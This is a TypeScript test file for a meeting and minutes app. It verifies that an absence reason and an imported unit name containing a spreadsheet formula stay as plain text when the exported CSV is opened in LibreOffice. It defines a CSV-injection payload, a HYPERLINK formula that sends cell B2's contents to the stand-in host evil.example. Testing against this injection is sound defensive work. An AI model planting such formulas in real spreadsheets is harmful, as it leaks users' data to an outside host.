import { execFile } from "node:child_process";
import { existsSync } from "node:fs";
import { copyFile, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import { promisify } from "node:util";
import ExcelJS from "exceljs";
import { afterAll, describe, expect, it } from "vitest";
import { main } from "../../src/cli/main.ts";
import { ManualClock } from "../../src/clock.ts";
import { actorFor } from "../../src/services/actors.ts";
import { recordAnswer } from "../../src/services/answers.ts";
import { closeRollCall, openRollCall } from "../../src/services/rollcall/index.ts";
import { freshDatabase } from "../support/db.ts";
import { createStack, seedCell } from "../support/stack.ts";

// Issue 12 item 8: what a member or a clerk types is shown in a spreadsheet, never run by it.
const FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Xem lý do")';
const SOFFICE = "/usr/bin/soffice";
const dir = await mkdtemp(join(tmpdir(), "chibo-csv-injection-"));
afterAll(() => rm(dir, { recursive: true, force: true }));

/**
 * Opens a CSV file in LibreOffice Calc as a person would (UTF-8, comma-separated, formulas
 * evaluated — the default of its import dialog), saves it as xlsx and reads the cells back:
 * a live formula comes back as `{ formula }`, text as a string.
 */
async function openInLibreOffice(csvPath: string): Promise<ExcelJS.CellValue[][]> {
  if (!existsSync(SOFFICE))
    throw new Error(
      `LibreOffice is missing at ${SOFFICE}: this test opens the CSV with it. Install it with ` +
        "`apt-get install -y --no-install-recommends libreoffice-calc-nogui` (.ci/run does this).",
    );
  await promisify(execFile)(
    SOFFICE,
    [
      "--headless",
      `-env:UserInstallation=file://${dir}/lo-profile`,
      // Comma, double quote, UTF-8, from line 1; the rest is the dialog's defaults.
      "--infilter=CSV:44,34,76,1",
      "--convert-to",
      "xlsx",
      "--outdir",
      dir,
      csvPath,
    ],
    { timeout: 90_000 },
  );
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(join(dir, basename(csvPath).replace(/\.csv$/, ".xlsx")));
  const rows: ExcelJS.CellValue[][] = [];
  workbook.worksheets[0]!.eachRow((row) => {
    rows.push((row.values as ExcelJS.CellValue[]).slice(1));
  });
  return rows;
}

describe("CSV injection: LibreOffice shows the text, it does not run a formula", () => {
  it("the minutes CSV: an absence reason =HYPERLINK(…) stays text", async () => {
    // Sunday 6 December 2026, 18:00 local; the meeting starts at 18:30.
    const clock = new ManualClock(new Date("2026-12-06T11:00:00Z"));
    const stack = await createStack({ clock });
    const { db, services } = stack;
    const { cell, members } = await seedCell(stack, { size: 3 });
    const meeting = await db.meeting.create({
      data: {
        unitId: cell.id,
        startsAt: new Date(clock.now().getTime() + 30 * 60_000),
        plannedEndAt: new Date(clock.now().getTime() + 120 * 60_000),
      },
    });
    const actor = async (i: number) =>
      (await actorFor(db, "TELEGRAM", String(members[i]!.telegramId)))!;
    await recordAnswer(services, await actor(2), {
      meetingId: meeting.id,
      memberId: members[2]!.id,
      kind: "ABSENT",
      reason: FORMULA,
    });
    const secretary = await actor(0);
    await openRollCall(services, secretary);
    await closeRollCall(services, secretary, meeting.id);

    // The file as the deputy and the committee member get it (the delivery ledger's payload).
    const notices = await db.delivery.findMany({
      where: { meetingId: meeting.id, kind: "notice" },
    });
    const file = notices
      .map((n) => (n.payload as { file?: { name: string; content: string } }).file)
      .find((f) => f !== undefined)!;
    expect(file.content).toContain("HYPERLINK");
    const path = join(dir, file.name);
    await writeFile(path, file.content);

    const rows = await openInLibreOffice(path);
    const row = rows.find((r) => r.includes(members[2]!.fullName))!;
    const reason = row.at(-1);
    expect(typeof reason, `the reason cell holds ${JSON.stringify(reason)}`).toBe("string");
    expect(reason as string).toContain(FORMULA);
  }, 120_000);

  it("report --format csv: an imported unit name =HYPERLINK(…) stays text", async () => {
    const { url } = await freshDatabase();
    const previous = process.env.DATABASE_URL;
    process.env.DATABASE_URL = url;
    try {
      const files = join(dir, "import");
      await rm(files, { recursive: true, force: true });
      await mkdir(files);
      for (const name of await readdir("test/fixtures/import"))
        await copyFile(join("test/fixtures/import", name), join(files, name));
      const units = join(files, "don-vi.csv");
      const original = await readFile(units, "utf8");
      expect(original).toContain(",Chi bộ Khu phố 1,");
      // The clerk's cell, quoted as a spreadsheet writes a field with commas and quotes.
      await writeFile(
        units,
        original.replace(",Chi bộ Khu phố 1,", `,"${FORMULA.replaceAll('"', '""')}",`),
      );
      const io = () => {
        const out = { stdout: "", stderr: "" };
        return {
          out,
          io: {
            stdout: { write: (text: string) => (out.stdout += text) },
            stderr: { write: (text: string) => (out.stderr += text) },
          },
        };
      };
      const imported = io();
      const names = (await readdir(files)).map((f) => join(files, f));
      expect(await main(["import", ...names], imported.io), imported.out.stderr).toBe(0);

      const report = io();
      const path = join(dir, "bao-cao.csv");
      expect(
        await main(["report", "--format", "csv", "--out", path], report.io),
        report.out.stderr,
      ).toBe(0);
      expect(await readFile(path, "utf8")).toContain("HYPERLINK");

      const rows = await openInLibreOffice(path);
      const name = rows.map((r) => r[1]).find((v) => JSON.stringify(v).includes("HYPERLINK"));
      expect(typeof name, `the unit name cell holds ${JSON.stringify(name)}`).toBe("string");
      expect(name as string).toContain(FORMULA);
    } finally {
      process.env.DATABASE_URL = previous;
    }
  }, 120_000);
});
